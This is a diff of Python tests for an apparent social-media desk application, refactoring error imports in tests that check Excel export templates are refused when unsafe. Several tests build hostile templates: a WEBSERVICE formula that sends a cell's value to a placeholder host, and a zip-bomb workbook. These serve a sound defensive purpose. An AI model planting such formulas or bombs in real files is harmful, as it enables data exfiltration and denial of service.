@@ -22,6 +22,8 @@ from sns_desk.domain import policy as pol
 from sns_desk.domain.errors import ValidationError
 from sns_desk.domain.vocabulary import IncidentType
 from sns_desk.export import workbooks as reports
+from sns_desk.export.destinations import DestinationExistsError
+from sns_desk.export.template_guard import TemplateError
 from sns_desk.services import accounts, incidents, post_drafts
 from sns_desk.services.accounts import AccountInput
 from sns_desk.store.database import Database
@@ -135,13 +137,13 @@ def test_a_template_formula_is_refused_with_its_cell(
     wb = load_workbook(resources.path("templates", "account_list.xlsx"))
     wb.active["H2"] = '=WEBSERVICE("http://example.invalid/?"&B5)'
     wb.save(office_templates(db) / "account_list.xlsx")
-    with within_a_second(), pytest.raises(reports.TemplateError, match="セル H2 に数式"):
+    with within_a_second(), pytest.raises(TemplateError, match="セル H2 に数式"):
         reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
     assert not (tmp_path / "list.xlsx").exists()
     wb = load_workbook(resources.path("templates", "account_list.xlsx"))
     wb.create_sheet("集計")["B3"] = '=WEBSERVICE("http://example.invalid/")'
     wb.save(office_templates(db) / "account_list.xlsx")
-    with pytest.raises(reports.TemplateError, match="シート「集計」のセル B3 に数式"):
+    with pytest.raises(TemplateError, match="シート「集計」のセル B3 に数式"):
         reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
 
 
@@ -173,7 +175,7 @@ def test_a_header_row_at_the_last_row_is_refused_quickly(
     path = office_templates(db) / "post_record.xlsx"
     wb.save(path)
     assert path.stat().st_size < 10_000
-    with within_a_second(), pytest.raises(reports.TemplateError, match="行"):
+    with within_a_second(), pytest.raises(TemplateError, match="行"):
         reports.export_post_record(
             db,
             people.kacho,
@@ -200,7 +202,7 @@ def test_a_zip_bomb_template_is_refused_from_its_directory(
                 data = data.replace(b"</sheetData>", rows + b"</sheetData>")
             bomb.writestr(part.filename, data)
     assert path.stat().st_size < 100_000
-    with within_a_second(), pytest.raises(reports.TemplateError, match="展開すると大きすぎる"):
+    with within_a_second(), pytest.raises(TemplateError, match="展開すると大きすぎる"):
         reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
 
 
@@ -209,7 +211,7 @@ def test_an_oversized_template_file_is_refused(
 ) -> None:
     path = office_templates(db) / "account_list.xlsx"
     path.write_bytes(resources.path("templates", "account_list.xlsx").read_bytes() + b"\0" * 6_000_000)
-    with within_a_second(), pytest.raises(reports.TemplateError, match="ファイルが大きすぎる"):
+    with within_a_second(), pytest.raises(TemplateError, match="ファイルが大きすぎる"):
         reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
 
 
@@ -222,7 +224,7 @@ def test_an_existing_file_is_replaced_only_when_confirmed(
     out = tmp_path / "out" / "list.xlsx"
     out.parent.mkdir()
     out.write_bytes(b"last month's list")
-    with pytest.raises(reports.DestinationExistsError, match="同じ名前のファイルが既にあります"):
+    with pytest.raises(DestinationExistsError, match="同じ名前のファイルが既にあります"):
         reports.export_account_list(db, people.koho, out)
     assert out.read_bytes() == b"last month's list"
     assert [p.name for p in out.parent.iterdir()] == ["list.xlsx"], "no temporary file left behind"
@@ -242,7 +244,7 @@ def test_a_file_that_appears_meanwhile_is_not_replaced(
         return real(*args, **kwargs)  # type: ignore[arg-type]
 
     monkeypatch.setattr(reports.report_queries, "listed_accounts", someone_saves_first)
-    with pytest.raises(reports.DestinationExistsError):
+    with pytest.raises(DestinationExistsError):
         reports.export_account_list(db, people.koho, out)
     assert out.read_bytes() == b"a colleague's file"
     assert [p.name for p in out.parent.iterdir()] == ["list.xlsx"]
